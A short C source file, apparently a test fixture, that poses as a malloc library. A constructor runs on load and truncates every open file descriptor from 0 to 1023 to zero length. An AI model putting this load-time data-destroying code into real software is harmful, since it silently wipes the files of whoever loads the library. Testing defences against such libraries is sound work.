/* Fakes a library that truncates whatever files it finds open. */
#include "own.h"
#include <unistd.h>

__attribute__((constructor)) static void truncate_all(void) {
    for (int file = 0; file < 1024; file++)
        if (ftruncate(file, 0) != 0) continue;
}

void *malloc(size_t size) { return own_malloc(size); }
